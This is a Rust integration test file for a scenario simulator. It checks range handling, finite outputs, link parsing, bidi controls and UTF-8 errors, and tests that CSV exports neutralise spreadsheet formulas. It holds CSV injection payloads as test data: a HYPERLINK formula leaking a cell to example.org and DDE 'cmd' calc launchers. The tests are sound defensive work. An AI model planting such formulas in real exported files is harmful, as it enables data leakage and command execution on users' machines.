//! Bad input, tried harder (issue 8): each class of failure a hostile or careless user found, as a
//! test. Ranges have one exact rule and no non-finite number comes out of accepted inputs; CSV
//! text cannot become a formula; the page and the command line read a link the same way and say
//! the same things about it; a link cannot crash the page or replace a saved session; file errors
//! follow one UTF-8 rule and always have a line.

mod common;

use std::path::Path;
use std::process::{Command, Output};

use common::temp_file;

use alignment_sim::analysis::export::{fan_chart_svg, outcomes_csv, quantiles_csv, text_cell};
use alignment_sim::engine::{Ensemble, Settings, Summary};
use alignment_sim::link::{encode_link, open_link};
use alignment_sim::scenario::{builtin, builtin_ids, parse_scenario, scenario_text, Scenario, ScenarioErrors};
use alignment_sim::state::{Action, State};
use proptest::prelude::*;
use proptest::test_runner::Config;
use serde_json::Value;

const BIN: &str = env!("CARGO_BIN_EXE_alignment-sim");
const FIXTURE: &str = include_str!("fixtures/minimal.toml");

fn cli(args: &[&str]) -> Output {
    Command::new(BIN)
        .args(args)
        .current_dir(env!("CARGO_MANIFEST_DIR"))
        .output()
        .expect("the binary runs")
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8(bytes.to_vec()).expect("UTF-8 output")
}

fn builtins() -> Vec<Scenario> {
    builtin_ids().map(|id| builtin(id).unwrap().unwrap()).collect()
}

/// The fixture with every range widened to its quantity's whole domain (alignments to within
/// one ulp of ±1), the horizon unchanged: the hardest inputs a file can give the model.
fn extreme_fixture() -> String {
    FIXTURE
        .replace("range = [-1.0, 1.0]", "range = [-2.0, 2.0]")
        .replace(
            "range = [-0.9, 0.9]",
            "range = [-0.9999999999999999, 0.9999999999999999]",
        )
        .replace("range = [0.0, 0.5]", "range = [0.0, 2.0]")
        .replace("range = [1, 120]", "range = [1, 1200]")
        .replace("range = [0.0, 0.2]", "range = [-1.0, 1.0]")
        .replace("range = [0.1, 2.0]", "range = [0.05, 1000.0]")
}

// ---- 1. One tolerance rule for ranges; no non-finite number out of accepted inputs -------------

#[test]
fn values_a_hair_past_a_range_end_are_refused_with_a_note() {
    let s = builtin("sino-russian-drift").unwrap().unwrap();
    let probability = s
        .assumptions
        .iter()
        .find(|a| a.id.ends_with(".probability") && a.range.1 == 1.0)
        .expect("a probability whose range ends at 1");
    assert!(probability.accepts(1.0) && probability.accepts(probability.range.0));
    for past in ["1.0000000000009", "1.0000000000000002"] {
        let opened = open_link(&format!("v=1&s={}&{}={past}", s.id, probability.id));
        let index = s.assumption_index(&probability.id).unwrap();
        assert_eq!(opened.values[index], probability.default, "{past}");
        assert!(
            opened
                .notes
                .iter()
                .any(|n| n.key == probability.id && n.message.contains("outside")),
            "{past}: {:?}",
            opened.notes
        );
        let set = format!("{}={past}", probability.id);
        let output = cli(&["run", &s.id, "--runs", "10", "--set", &set]);
        assert_eq!(output.status.code(), Some(1), "--set {set}");
        assert!(text(&output.stderr).contains("outside"), "{}", text(&output.stderr));
    }
}

#[test]
fn alignments_stay_strictly_inside_minus_one_to_one() {
    // A range ending a hair inside 1 loads; 1 itself, or beyond, never gets in.
    let near = FIXTURE.replacen("range = [-0.9, 0.9]", "range = [-0.9999999999999, 0.9999999999999]", 1);
    let s = parse_scenario("near.toml", &near).unwrap();
    let initial = &s.assumptions[s.assumption_index("pair.AAA-BBB.initial").unwrap()];
    assert_eq!(initial.range.1, 0.9999999999999);
    for value in ["1", "1.0", "0.99999999999999", "1.0000000000000002", "inf", "NaN"] {
        let opened = open_link(&format!("v=1&c={}&pair.AAA-BBB.initial={value}", encode_c(&near)));
        assert!(opened.unusable_scenario.is_none());
        let index = s.assumption_index("pair.AAA-BBB.initial").unwrap();
        assert_eq!(opened.values[index], initial.default, "{value} was taken");
        assert!(opened.notes.iter().any(|n| n.key == "pair.AAA-BBB.initial"), "{value}");
    }
    for range in [
        "[-1.0, 0.9]",
        "[-0.9, 1.0]",
        "[-0.9, 1.0000000000000002]",
        "[-0.9, 0.99999999999999999]",
    ] {
        let bad = FIXTURE.replacen("range = [-0.9, 0.9]", &format!("range = {range}"), 1);
        let errors = parse_scenario("bad.toml", &bad).unwrap_err();
        assert!(
            errors
                .0
                .iter()
                .any(|e| e.field.ends_with(".range") && e.message.contains("strictly between")),
            "{range}: {errors}"
        );
    }
}

fn encode_c(text: &str) -> String {
    let s = parse_scenario("x.toml", text).unwrap();
    let link = alignment_sim::link::encode_link_carrying(&s, text, &s.defaults(), s.default_settings(), &[]);
    link.split("&c=").nth(1).unwrap().to_string()
}

fn assert_all_finite(what: &str, summary: &Summary) {
    let mut numbers: Vec<(String, f64)> = Vec::new();
    for (p, bands) in summary.pairs.iter().enumerate() {
        for (t, (q, mean)) in bands.quantiles.iter().zip(&bands.mean).enumerate() {
            for (k, v) in q.iter().enumerate() {
                assert!((-1.0..=1.0).contains(v), "{what}: pair {p} month {t} q{k} = {v}");
            }
            numbers.push((format!("pair {p} month {t} mean"), *mean));
        }
    }
    for (o, p) in summary.outcomes.iter().enumerate() {
        numbers.push((format!("outcome {o}"), p.probability));
        numbers.push((format!("outcome {o} se"), p.std_error));
    }
    for (e, event) in summary.events.iter().enumerate() {
        numbers.push((format!("event {e}"), event.fired.probability));
        numbers.push((format!("event {e} se"), event.fired.std_error));
        numbers.push((format!("event {e} firings"), event.mean_firings));
        numbers.extend(event.cumulative.iter().map(|v| (format!("event {e} cumulative"), *v)));
        numbers.extend(
            event
                .first_month_quartiles
                .iter()
                .flatten()
                .map(|v| (format!("event {e} quartile"), *v)),
        );
    }
    for b in &summary.blocs {
        numbers.push(("bloc share".into(), b.share.probability));
        numbers.push(("bloc se".into(), b.share.std_error));
    }
    if let Some(f) = &summary.frustration {
        numbers.push(("frustration initial".into(), f.initial));
        numbers.push(("frustration mean".into(), f.mean));
        numbers.extend(f.quantiles.iter().map(|v| ("frustration quantile".to_string(), *v)));
    }
    for (name, v) in numbers {
        assert!(v.is_finite(), "{what}: {name} = {v}");
    }
}

/// Every cell of a CSV that reads as a number is finite.
fn assert_csv_finite(what: &str, csv: &str) {
    for row in parse_csv(csv) {
        for cell in row {
            if let Ok(v) = cell.parse::<f64>() {
                assert!(v.is_finite(), "{what}: cell `{cell}`");
            }
        }
    }
}

fn settings_strategy() -> impl Strategy<Value = Settings> {
    (any::<u64>(), 1usize..=12, 1usize..=24).prop_map(|(seed, runs, horizon)| Settings { seed, runs, horizon })
}

proptest! {
    #![proptest_config(Config { cases: 48, failure_persistence: None, ..Config::default() })]

    /// Any values a link, `--set` or a slider can give (each assumption at an end of its range or
    /// anywhere inside), on the built-in scenarios and on a file whose ranges span whole domains:
    /// every number of the summary and every exported number is finite.
    #[test]
    fn accepted_inputs_give_only_finite_numbers(
        which in 0usize..4,
        picks in prop::collection::vec((0u8..3, 0.0f64..=1.0), 128),
        settings in settings_strategy(),
    ) {
        let scenario = if which == 3 {
            parse_scenario("extreme.toml", &extreme_fixture()).unwrap()
        } else {
            builtins().swap_remove(which)
        };
        let values: Vec<f64> = scenario
            .assumptions
            .iter()
            .zip(picks.iter().cycle())
            .map(|(a, &(kind, u))| match kind {
                0 => a.range.0,
                1 => a.range.1,
                _ => (a.range.0 + u * (a.range.1 - a.range.0)).clamp(a.range.0, a.range.1),
            })
            .collect();
        for (a, v) in scenario.assumptions.iter().zip(&values) {
            prop_assert!(a.accepts(*v));
        }
        // The values as a link carries them are read back exactly, without notes.
        let opened = open_link(&match which {
            3 => alignment_sim::link::encode_link_carrying(&scenario, &extreme_fixture(), &values, settings, &[]),
            _ => encode_link(&scenario, &values, settings, &[]),
        });
        prop_assert!(opened.notes.is_empty(), "{:?}", opened.notes);
        prop_assert_eq!(&opened.values, &values);
        let summary = Ensemble::run(scenario.model(&values), settings);
        assert_all_finite(&scenario.id, &summary);
        assert_csv_finite("quantiles", &quantiles_csv(&scenario, &summary));
        assert_csv_finite("outcomes", &outcomes_csv(&scenario, &summary));
        let svg = fan_chart_svg(&scenario, &summary, 0);
        prop_assert!(!svg.contains("NaN") && !svg.contains("inf\""), "a non-finite number in the SVG");
    }
}

#[test]
fn the_json_of_extreme_values_has_only_numbers() {
    let path = temp_file("alignment-sim-extreme", extreme_fixture());
    let s = parse_scenario("extreme.toml", &extreme_fixture()).unwrap();
    for end in [0, 1] {
        let mut args: Vec<String> = ["run", &path, "--runs", "30", "--horizon", "24", "--format", "json"]
            .iter()
            .map(|a| a.to_string())
            .collect();
        for a in &s.assumptions {
            args.push("--set".into());
            args.push(format!("{}={}", a.id, if end == 0 { a.range.0 } else { a.range.1 }));
        }
        let output = cli(&args.iter().map(String::as_str).collect::<Vec<_>>());
        assert!(output.status.success(), "{}", text(&output.stderr));
        let json: Value = serde_json::from_slice(&output.stdout).unwrap();
        // serde_json writes a non-finite number as null: no null may stand where a number does.
        fn numbers_only(path: &str, v: &Value) {
            match v {
                // Results are numbers; a null there is a non-finite number. Elsewhere null marks an
                // optional field (a scenario without a `start`, an event that never fired or that the
                // user did not mark).
                Value::Null => {
                    let results = [".pairs", ".outcomes", ".frustration", ".blocs", ".events"];
                    let optional = [
                        "first_month_quartiles",
                        "first_month_calendar",
                        "observed",
                        "calendar_month",
                    ];
                    assert!(
                        !results.iter().any(|r| path.starts_with(r)) || optional.iter().any(|o| path.ends_with(o)),
                        "null at {path}"
                    )
                }
                Value::Array(items) => items.iter().for_each(|x| numbers_only(path, x)),
                Value::Object(map) => map.iter().for_each(|(k, x)| numbers_only(&format!("{path}.{k}"), x)),
                Value::Number(n) => assert!(n.as_f64().is_some_and(f64::is_finite), "{path}"),
                _ => {}
            }
        }
        numbers_only("", &json);
    }
}

// ---- 2. No live formula in any CSV -------------------------------------------------------------

/// RFC 4180 cells, quotes undone.
fn parse_csv(csv: &str) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut chars = csv.chars().peekable();
    while let Some(c) = chars.next() {
        let row = rows.last_mut().unwrap();
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                row.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => row.push(String::new()),
            ('\n', false) => rows.push(vec![String::new()]),
            (c, _) => row.last_mut().unwrap().push(c),
        }
    }
    rows.retain(|r| !(r.len() == 1 && r[0].is_empty()));
    rows
}

const FORMULAS: [&str; 5] = [
    "=HYPERLINK(\"http://example.org/?leak=\"&A1,\"Click me\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
];

/// The fixture with formula-like labels on its assumptions and outcomes (every `label`, in turn).
fn formula_fixture() -> String {
    let mut text = FIXTURE.to_string();
    for (k, line) in FIXTURE.lines().filter(|l| l.starts_with("label = ")).enumerate() {
        let formula = FORMULAS[k % FORMULAS.len()]
            .replace('\\', "\\\\")
            .replace('"', "\\\"")
            .replace('\t', "\\t");
        text = text.replacen(line, &format!("label = \"{formula}\""), 1);
    }
    text
}

/// A cell a spreadsheet would evaluate: text starting with a formula character that is not a
/// plain number.
fn live_formula(cell: &str) -> bool {
    let first = cell.trim_start_matches([' ', '\n']).chars().next();
    matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')) && cell.parse::<f64>().is_err()
}

fn assert_no_formula(what: &str, csv: &str) {
    for (r, row) in parse_csv(csv).iter().enumerate() {
        for cell in row {
            assert!(!live_formula(cell), "{what}: row {r}: a live formula `{cell}`\n{csv}");
        }
    }
}

#[test]
fn no_csv_holds_a_live_formula_and_numbers_stay_numbers() {
    let text = formula_fixture();
    let s = parse_scenario("formulas.toml", &text).unwrap_or_else(|e| panic!("{e}"));
    assert!(s.assumptions.iter().any(|a| a.label.starts_with('=')));
    let path = temp_file("alignment-sim-formulas", &text);
    let run = |args: &[&str]| {
        let output = cli(args);
        assert!(output.status.success(), "{args:?}: {}", text_of(&output.stderr));
        text_of(&output.stdout)
    };
    fn text_of(bytes: &[u8]) -> String {
        String::from_utf8(bytes.to_vec()).unwrap()
    }
    let outcomes = run(&["export", &path, "--what", "outcomes", "--runs", "50"]);
    let quantiles = run(&["export", &path, "--what", "quantiles", "--runs", "50"]);
    let tornado = run(&[
        "sensitivity",
        &path,
        "--outcome",
        "ab-high",
        "--runs",
        "40",
        "--format",
        "csv",
    ]);
    let sweep = run(&["sweep", &path, "--vary", "model.balance=3", "--runs", "40"]);
    let run_csv = run(&["run", &path, "--runs", "50", "--format", "csv"]);
    for (what, csv) in [
        ("outcomes", &outcomes),
        ("quantiles", &quantiles),
        ("tornado", &tornado),
        ("sweep", &sweep),
        ("run", &run_csv),
    ] {
        assert_no_formula(what, csv);
    }
    // The labels are kept, visibly, behind the apostrophe.
    let cells: Vec<String> = parse_csv(&tornado).into_iter().flatten().collect();
    assert!(cells.contains(&format!("'{}", FORMULAS[0])), "{tornado}");
    let outcome_cells: Vec<String> = parse_csv(&outcomes).into_iter().flatten().collect();
    assert!(
        FORMULAS.iter().any(|f| outcome_cells.contains(&format!("'{f}"))),
        "{outcomes}"
    );
    // Negative numbers are numbers: the quantile table of a hostile pair starts cells with '-'.
    let negative: Vec<String> = parse_csv(&quantiles)
        .into_iter()
        .flatten()
        .filter(|c| c.starts_with('-'))
        .collect();
    assert!(!negative.is_empty(), "no negative number to check");
    assert!(negative.iter().all(|c| c.parse::<f64>().is_ok()), "{negative:?}");
    // The one cell function: the apostrophe rule, and nothing else changed.
    assert_eq!(text_cell("-0.25 (text)"), "'-0.25 (text)");
    assert_eq!(text_cell("plain label"), "plain label");
}

// ---- 3, 4. One link reader: the same parts, the same numbers, the same notes ------------------

/// What the page reads from an address: `location.hash` without its `#`.
fn page_fragment(url: &str) -> &str {
    url.split_once('#').map_or("", |(_, fragment)| fragment)
}

/// `link: …` lines of the command line's stderr.
fn cli_notes(stderr: &str) -> Vec<String> {
    stderr
        .lines()
        .filter_map(|l| l.strip_prefix("link: "))
        .map(str::to_string)
        .collect()
}

#[test]
fn page_and_command_line_read_the_same_link_alike() {
    let s = builtin("sino-russian-drift").unwrap().unwrap();
    let event = s.assumptions.iter().find(|a| a.id.ends_with(".probability")).unwrap();
    let base = "http://127.0.0.1:8080/#v=1&s=sino-russian-drift&runs=20&h=6";
    let links = [
        "http://127.0.0.1:8080/#v=1&s=sino-russian-drift&seed=9&runs=20&h=6#s=us-russia-rapprochement&seed=4"
            .to_string(),
        format!("{base}&view.pair=XX-YY&view.month=99&view.tab=blocs"),
        format!("{base}&view.pair=CHN-RUS&view.month=3"),
        "#v=2&s=russia-dprk-alignment&runs=20&h=6&future.key=1&model.balance=0.03".to_string(),
        format!("{base}&seed=-3"),
        format!("{base}&seed=18446744073709551616"),
        format!("{base}&{}=1.0000000000009", event.id),
        format!("{base}&debug.panic=1"),
        format!("{base}&model.balance=%E2%80%AE0.1"),
        format!("{base}&model.balance=0.05&model.balance=0.07&runs=30"),
        "v=1&s=sino-russian-drift&runs=20&h=6#seed=5".to_string(),
    ];
    for link in &links {
        let page = State::from_link(page_fragment(link).trim_start_matches('#'));
        let page = if link.starts_with("v=") {
            State::from_link(link)
        } else {
            page
        };
        let output = cli(&["run", "--link", link, "--format", "json"]);
        assert!(output.status.success(), "{link}: {}", text(&output.stderr));
        let json: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(
            json["scenario"]["id"].as_str(),
            Some(page.scenario.id.as_str()),
            "{link}"
        );
        let settings = &json["settings"];
        assert_eq!(
            (
                settings["seed"].as_u64(),
                settings["runs"].as_u64(),
                settings["horizon"].as_u64()
            ),
            (
                Some(page.settings.seed),
                Some(page.settings.runs as u64),
                Some(page.settings.horizon as u64)
            ),
            "{link}"
        );
        assert_eq!(cli_notes(&text(&output.stderr)), page.notices, "{link}");
        let printed: Vec<String> = json["link_notes"]
            .as_array()
            .unwrap()
            .iter()
            .map(|n| n.as_str().unwrap_or_default().to_string())
            .collect();
        assert_eq!(printed, page.notices, "{link}: the JSON's notes");
    }
    // The second `#`: every part before it kept, the repeated `s` and `seed` after it not used.
    let page = State::from_link(page_fragment(&links[0]));
    assert_eq!(
        (page.scenario.id.as_str(), page.settings.seed),
        ("sino-russian-drift", 9)
    );
    assert!(
        page.notices.iter().any(|n| n.contains("second `#`")),
        "{:?}",
        page.notices
    );
    // A bidirectional control in link text is shown visibly in the note.
    let page = State::from_link(page_fragment(&links[8]));
    assert!(
        page.notices.iter().any(|n| n.contains("<U+202E>")),
        "{:?}",
        page.notices
    );
}

#[test]
fn an_unusable_scenario_gives_the_real_reason_on_both_sides() {
    let long = format!("v=1&s=sino-russian-drift&x={}", "a".repeat(70_000));
    for (link, reason) in [
        (
            "#v=1&s=no-such-scenario&seed=3",
            "no built-in scenario `no-such-scenario`",
        ),
        ("#v=1&s=sino%zz-drift&seed=3", "badly escaped"),
        ("#v=1&s=x&c=ab.cdefgh", "not a base64url character"),
        ("#v=1&s=x&c=AAAA", "damaged"),
        ("#v=1&seed=3", "names no scenario"),
        (long.as_str(), "not read"),
    ] {
        let page = State::from_link(link.trim_start_matches('#'));
        assert!(
            page.notices.iter().any(|n| n.contains(reason)),
            "page, {}: {:?}",
            &link[..link.len().min(60)],
            page.notices
        );
        let output = cli(&["run", "--link", link]);
        assert_eq!(output.status.code(), Some(1));
        let err = text(&output.stderr);
        assert!(
            err.contains(reason),
            "command line, {}: {err}",
            &link[..link.len().min(60)]
        );
    }
}

// ---- 5. Nothing in a link crashes the page -----------------------------------------------------

#[test]
fn debug_keys_in_a_link_are_just_unknown_keys() {
    let state = State::from_link("v=1&s=russia-dprk-alignment&seed=4&debug.panic=1");
    assert_eq!(state.settings.seed, 4);
    assert!(
        state.notices.iter().any(|n| n.contains("debug.panic")),
        "{:?}",
        state.notices
    );
    let source = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("src/app/mod.rs")).unwrap();
    assert!(
        !source.contains("debug.panic"),
        "the page still reads a panic request from links"
    );
}

// ---- 6. Nothing lost: a held link stays until the user changes something -----------------------

#[test]
fn a_link_with_unusable_parts_is_held_until_the_user_changes_something() {
    for link in [
        "v=2&s=sino-russian-drift&seed=5&future.thing=1",
        "v=1&s=sino-russian-drift&c=AAAA&seed=5",
        "v=1&s=no-such-scenario&seed=5",
    ] {
        let mut state = State::from_link(link);
        assert_eq!(state.held_link.as_deref(), Some(link));
        // Results arriving, messages and no-op changes keep it.
        state.apply(Action::WorkerFailed("x".into()));
        state.apply(Action::DismissNotices);
        state.apply(Action::SelectPair(state.view.pair));
        state.apply(Action::SetSeed(state.settings.seed));
        assert_eq!(state.held_link.as_deref(), Some(link), "kept without a change");
        state.apply(Action::SetSeed(6));
        assert_eq!(state.held_link, None, "a change replaces it");
    }
    assert_eq!(State::from_link("v=1&s=sino-russian-drift&seed=5").held_link, None);
    assert_eq!(State::from_link("").held_link, None);
}

// ---- 7. File errors: one UTF-8 rule, a line for every error, bidi controls, steps ---------------

fn errors_of(text: &str) -> ScenarioErrors {
    parse_scenario("bad.toml", text).expect_err("should not load")
}

#[test]
fn invalid_utf8_is_refused_with_its_line_by_page_rule_and_command_line() {
    let mut bytes = FIXTURE.as_bytes().to_vec();
    let at = FIXTURE.find("Test: three actors").unwrap() + 5;
    bytes[at] = 0xFF;
    let errors = scenario_text("bad.toml", bytes.clone()).unwrap_err();
    let line = FIXTURE[..at].matches('\n').count() + 1;
    assert_eq!(errors.0[0].line, Some(line));
    assert_eq!(errors.0[0].field, "title");
    assert!(
        errors.0[0].message.contains("0xFF") && errors.0[0].message.contains("column 15"),
        "{errors}"
    );
    let path = temp_file("alignment-sim-latin1", &bytes);
    let output = cli(&["validate", &path]);
    assert_eq!(output.status.code(), Some(1));
    let err = text(&output.stderr);
    assert!(
        err.contains(&format!("{path}:{line}: `title`: the file is not UTF-8")),
        "{err}"
    );
    let output = cli(&["run", &path]);
    assert!(text(&output.stderr).contains("not UTF-8"));
}

#[test]
fn deep_nesting_is_reported_with_a_line() {
    let dotted = format!(
        "{FIXTURE}\n{} = 1\n",
        (0..300).map(|i| format!("k{i}")).collect::<Vec<_>>().join(".")
    );
    let arrays = format!("{FIXTURE}\nx = {}1{}\n", "[".repeat(300), "]".repeat(300));
    let tables = format!("{FIXTURE}\nx = {}1{}\n", "{a=".repeat(300), "}".repeat(300));
    let last = FIXTURE.lines().count() + 2;
    for text in [dotted, arrays, tables] {
        let errors = errors_of(&text);
        assert!(errors.0.iter().all(|e| e.line == Some(last)), "{errors}");
    }
}

#[test]
fn bidirectional_controls_are_refused_where_they_are() {
    for (place, from, to) in [
        (
            "title",
            "title = \"Test: three actors\"",
            "title = \"Test: \u{202E}srotca eerht\"",
        ),
        ("comment", "# A small, complete", "# A \u{2067}small, complete"),
        ("label", "label = \"Volatility\"", "label = \"Vola\u{200F}tility\""),
    ] {
        let text = FIXTURE.replacen(from, to, 1);
        assert_ne!(text, FIXTURE, "{place}");
        let errors = errors_of(&text);
        let line = text[..text.find(to).unwrap()].matches('\n').count() + 1;
        let e = errors
            .0
            .iter()
            .find(|e| e.message.contains("U+"))
            .expect("a bidi error");
        assert_eq!(e.line, Some(line), "{place}: {errors}");
        if place == "label" {
            assert_eq!(e.field, "model.volatility.label", "{errors}");
        }
    }
}

#[test]
fn a_step_too_fine_for_its_range_is_refused() {
    for step in ["1e-300", "0.000001"] {
        let text = FIXTURE.replacen("step = 0.005", &format!("step = {step}"), 1);
        let errors = errors_of(&text);
        assert!(
            errors
                .0
                .iter()
                .any(|e| e.field == "model.volatility.step" && e.message.contains("too fine")),
            "{step}: {errors}"
        );
    }
    // 100 000 steps is the most a slider has.
    let text = FIXTURE.replacen("step = 0.005", "step = 0.000005", 1);
    assert!(parse_scenario("ok.toml", &text).is_ok());
}

#[test]
fn the_readme_names_the_toml_version_the_parser_reads() {
    let readme = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("README.md")).unwrap();
    assert!(
        readme.contains("TOML 1.1"),
        "the README says which TOML the parser reads"
    );
    // A TOML 1.1 construct: an inline table over several lines with a trailing comma.
    let text = FIXTURE.replacen(
        "sources = [{ source = \"judgement\" }]",
        "sources = [{\n  source = \"judgement\",\n}]",
        1,
    );
    assert!(parse_scenario("toml11.toml", &text).is_ok());
}

// ---- 8. Seeds: nothing is silently read as another seed ----------------------------------------

#[test]
fn a_seed_out_of_range_is_refused_with_its_reason() {
    for (text, why) in [
        ("-3", "`-3`"),
        ("18446744073709551616", "`18446744073709551616`"),
        ("", "an empty field"),
    ] {
        let message = alignment_sim::link::read_seed(text).unwrap_err();
        assert!(
            message.contains(why) && message.contains("18446744073709551615"),
            "{message}"
        );
    }
    assert_eq!(alignment_sim::link::read_seed("18446744073709551615"), Ok(u64::MAX));
    assert_eq!(alignment_sim::link::read_seed("0"), Ok(0));
}
